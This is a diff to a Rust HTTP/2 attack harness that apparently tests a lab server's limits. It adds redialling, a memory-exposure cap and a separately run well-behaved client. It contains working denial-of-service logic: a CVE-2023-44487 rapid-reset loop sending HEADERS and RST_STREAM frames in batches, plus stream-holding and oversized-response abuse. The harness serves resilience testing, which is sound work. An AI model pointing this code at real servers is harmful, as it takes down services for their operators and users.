@@ -57,11 +57,11 @@ impl AttackKind {
 pub struct AttackPlan {
     pub kind: AttackKind,
     pub target: SocketAddr,
-    /// Connections opened at the start (rapid reset dials again when one is closed).
+    /// Connections open at once; each is dialled again when the server ends it.
     pub connections: u32,
     /// The attack ends this long after it starts.
     pub duration: Duration,
-    /// Streams opened over all connections, at most.
+    /// Streams held open at once over all connections, at most (each connection its share).
     pub max_streams: u64,
     /// `unread-responses`: the response size each call asks for.
     pub response_bytes: u32,
@@ -71,6 +71,55 @@ pub struct AttackPlan {
     /// a 1 s deadline, then once more on a new connection after it; `None`: no such client.
     pub good_client: Option<Duration>,
 }
+
+/// The most memory an attack may ask a server without limits to hold: streams held × the bytes
+/// each asks for. Far below this machine's memory, far above the limits' bounds.
+pub const MAX_EXPOSURE: u64 = 4 << 30;
+
+/// The most streams held at once when the plan does not say.
+pub const DEFAULT_MAX_STREAMS: u64 = 20_000;
+
+impl AttackPlan {
+    /// The bytes one held stream asks the server to hold, beyond the stream itself.
+    fn bytes_per_stream(kind: AttackKind, response_bytes: u32, declared_bytes: u32) -> u64 {
+        match kind {
+            AttackKind::UnreadResponses => response_bytes.into(),
+            AttackKind::DeclaredSize => declared_bytes.into(),
+            _ => 0,
+        }
+    }
+
+    /// [`DEFAULT_MAX_STREAMS`], or fewer where each stream asks for so much that they would pass
+    /// [`MAX_EXPOSURE`].
+    pub fn default_max_streams(kind: AttackKind, response_bytes: u32, declared_bytes: u32) -> u64 {
+        match Self::bytes_per_stream(kind, response_bytes, declared_bytes) {
+            0 => DEFAULT_MAX_STREAMS,
+            bytes => (MAX_EXPOSURE / bytes).clamp(1, DEFAULT_MAX_STREAMS),
+        }
+    }
+
+    /// Fails when the streams held could ask a server without limits for more than [`MAX_EXPOSURE`].
+    pub fn check_exposure(&self) -> Result<(), String> {
+        let per_stream = Self::bytes_per_stream(self.kind, self.response_bytes, self.declared_bytes);
+        let exposure = self.max_streams.saturating_mul(per_stream);
+        if exposure > MAX_EXPOSURE {
+            let what = match self.kind {
+                AttackKind::UnreadResponses => "response_bytes",
+                _ => "declared_bytes",
+            };
+            return Err(format!(
+                "max_streams {} × {what} {per_stream} = {} MiB: more than the {} MiB an attack may ask a server to hold; lower either",
+                self.max_streams,
+                exposure >> 20,
+                MAX_EXPOSURE >> 20
+            ));
+        }
+        Ok(())
+    }
+}
+
+/// How long a connection the server ended waits before it is dialled again.
+const REDIAL_PAUSE: Duration = Duration::from_millis(200);
 
 /// The deadline of each of the well-behaved client's calls.
 pub const GOOD_DEADLINE: Duration = Duration::from_secs(1);
@@ -158,6 +207,7 @@ pub fn check_target(target: SocketAddr) -> Result<(), String> {
 /// Runs the attack to its end and reports it.
 pub async fn run(plan: &AttackPlan) -> Result<AttackReport, String> {
     check_target(plan.target)?;
+    plan.check_exposure()?;
     let ends = Instant::now() + plan.duration;
     let per_connection = plan.max_streams.div_ceil(u64::from(plan.connections.max(1)));
     let attacks = (0..plan.connections.max(1)).map(|_| {
@@ -165,7 +215,14 @@ pub async fn run(plan: &AttackPlan) -> Result<AttackReport, String> {
         tokio::spawn(async move { one_connection(&plan, ends, per_connection).await })
     });
     let (attack_over, over) = tokio::sync::oneshot::channel();
-    let good = plan.good_client.map(|every| tokio::spawn(good_client(plan.target, every, over)));
+    // On a runtime of its own, as another process would be: the attack's tasks do not delay it.
+    let good = plan.good_client.map(|every| {
+        let target = plan.target;
+        std::thread::spawn(move || {
+            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().ok()?;
+            Some(runtime.block_on(good_client(target, every, over)))
+        })
+    });
     let mut report = AttackReport { kind: Some(plan.kind), ..AttackReport::default() };
     let mut peak = 0;
     for attack in attacks.collect::<Vec<_>>() {
@@ -181,28 +238,29 @@ pub async fn run(plan: &AttackPlan) -> Result<AttackReport, String> {
     report.peak_held = peak;
     let _ = attack_over.send(());
     if let Some(good) = good {
-        report.good_client = good.await.ok();
+        report.good_client = tokio::task::spawn_blocking(move || good.join().ok().flatten()).await.ok().flatten();
     }
     Ok(report)
 }
 
-/// One connection's share of the attack (with rapid reset: one after another until the share is spent).
+/// One connection's share of the attack: connections one after another, each dialled when the server
+/// ended the last, until the attack's time is up. `streams`: the most it holds open at once.
 async fn one_connection(plan: &AttackPlan, ends: Instant, streams: u64) -> Result<AttackReport, String> {
     let mut report = AttackReport::default();
-    while report.streams_opened < streams && Instant::now() < ends {
+    while Instant::now() < ends {
         report.connections += 1;
         let ended = match plan.kind {
             AttackKind::HeldHeaders => held_headers(plan.target, ends, &mut report).await?,
-            AttackKind::RapidReset => rapid_reset(plan.target, ends, streams, &mut report).await?,
+            AttackKind::RapidReset => rapid_reset(plan.target, ends, &mut report).await?,
             _ => abuse(plan, ends, streams, &mut report).await?,
         };
         if !ended {
             break;
         }
+        // Dialled again, as a determined client would: what a limit frees, it takes again. After a
+        // pause, so that the closed connections' TIME_WAIT do not use up this machine's ephemeral ports.
         report.connections_ended += 1;
-        if plan.kind != AttackKind::RapidReset {
-            break;
-        }
+        tokio::time::sleep(REDIAL_PAUSE.min(ends.saturating_duration_since(Instant::now()))).await;
     }
     Ok(report)
 }
@@ -262,8 +320,8 @@ async fn abuse(plan: &AttackPlan, ends: Instant, streams: u64, report: &mut Atta
         }
     };
     let mut ended = false;
-    // Hold what was opened until the attack ends, the server ends the connection, or nothing is left to hold.
-    while report.streams_opened < streams || !held.is_empty() {
+    // Hold what was opened, and open more, until the attack ends or the server ends the connection.
+    loop {
         tokio::select! {
             biased;
             _ = &mut connection => {
@@ -276,7 +334,8 @@ async fn abuse(plan: &AttackPlan, ends: Instant, streams: u64, report: &mut Atta
                     count(outcome, report);
                 }
             }
-            ready = std::future::poll_fn(|cx| send.poll_ready(cx)), if report.streams_opened < streams => {
+            // Reset streams count until their tasks are joined: what is held never passes the bound.
+            ready = std::future::poll_fn(|cx| send.poll_ready(cx)), if (held.len() as u64) < streams => {
                 if ready.is_err() {
                     ended = true;
                     break;
@@ -306,6 +365,8 @@ async fn abuse(plan: &AttackPlan, ends: Instant, streams: u64, report: &mut Atta
                     AttackKind::RapidReset | AttackKind::HeldHeaders => unreachable!("written as raw frames"),
                 }
                 report.peak_held = report.peak_held.max(held.len() as u64);
+                // Without a yield, refused streams would be opened again faster than their resets are joined.
+                tokio::task::yield_now().await;
             }
         }
     }
@@ -379,12 +440,7 @@ async fn held_headers(target: SocketAddr, ends: Instant, report: &mut AttackRepo
 
 /// HEADERS then RST_STREAM CANCEL, in batches of 100 streams per write, as CVE-2023-44487's clients
 /// send them; returns whether the server ended the connection.
-async fn rapid_reset(
-    target: SocketAddr,
-    ends: Instant,
-    streams: u64,
-    report: &mut AttackReport,
-) -> Result<bool, String> {
+async fn rapid_reset(target: SocketAddr, ends: Instant, report: &mut AttackReport) -> Result<bool, String> {
     let tcp = connect(target).await?;
     let (mut reader, mut writer) = tcp.into_split();
     writer.write_all(&preface()).await.map_err(|error| format!("attack write: {error}"))?;
@@ -394,9 +450,10 @@ async fn rapid_reset(
         let mut buffer = [0u8; 4096];
         while let Ok(1..) = tokio::io::AsyncReadExt::read(&mut reader, &mut buffer).await {}
     });
-    while report.streams_opened < streams && Instant::now() < ends && stream_id < (1 << 31) - 200 {
+    report.peak_held = report.peak_held.max(100);
+    while Instant::now() < ends && stream_id < (1 << 31) - 200 {
         let mut batch = Vec::new();
-        for _ in 0..100.min(streams - report.streams_opened) {
+        for _ in 0..100 {
             frame(&mut batch, leaklab_server::frames::kind::HEADERS, END_HEADERS, stream_id, &block);
             frame(&mut batch, RST_STREAM, 0, stream_id, &CANCEL.to_be_bytes());
             stream_id += 2;
